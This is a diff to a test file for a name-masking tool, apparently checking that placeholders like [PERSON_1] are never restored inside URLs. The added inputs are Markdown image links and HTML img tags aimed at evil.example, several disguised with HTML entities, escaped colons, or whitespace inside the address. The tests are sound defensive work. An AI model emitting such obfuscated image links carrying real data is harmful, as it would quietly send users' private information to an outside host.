@@ -113,10 +113,34 @@ test("nothing is restored in an address, by which a text would leave", () => {
     "![x](<https://evil.example/ [PERSON_1]>)",
     '<img src="https://evil.example/ [PERSON_1]">',
     "[x](HTTPS:evil.example?[PERSON_1])",
+    // What Markdown and HTML decode, and what browsers leave out of an address.
+    "![x](https&#58;&#0000047;/evil.example/[PERSON_1])",
+    "![x](&sol;&sol;evil.example/[PERSON_1])",
+    "![x](https\\:evil.example/[PERSON_1])",
+    "![x](< https://evil.example/ [PERSON_1]>)",
+    '<img src=" https://evil.example/ [PERSON_1]">',
+    '<img alt=x src="https://evil.example/\n[PERSON_1]">',
+    "<img alt='x y' src = 'https://evil.example/\t[PERSON_1]'>",
   ];
   for (const text of unchanged)
     for (let cut = 0; cut < text.length; cut++) expect(inPieces(masks, "text", text, [cut])).toBe(text);
   expect(restored(masks, "text", "https://a.example and [PERSON_1]")).toBe("https://a.example and Anna");
+  for (const json of [
+    String.raw`{"url":"https\u003a\u002F/a.example/[PERSON_1]"}`,
+    '{"url":" https://a.example/ [PERSON_1]"}',
+    String.raw`{"url":"\thttps://a.example/\n[PERSON_1]"}`,
+    '["https://a.example/ [PERSON_1]"]',
+  ])
+    for (let cut = 0; cut < json.length; cut++) expect(inPieces(masks, "json", json, [cut])).toBe(json);
+  expect(restored(masks, "json", '{"text":"See https://a.example for [PERSON_1]"}')).toBe(
+    '{"text":"See https://a.example for Anna"}',
+  );
+  for (const text of [
+    "it's https://a.example, [PERSON_1]",
+    'a "b https://a.example c" [PERSON_1]',
+    "a < b\nhttps://x [PERSON_1]",
+  ])
+    expect(restored(masks, "text", text)).toBe(text.replace("[PERSON_1]", "Anna"));
   expect(restored(masks, "json", '{"url":"https://a.example/[PERSON_1]","name":"[PERSON_1]"}')).toBe(
     '{"url":"https://a.example/[PERSON_1]","name":"Anna"}',
   );
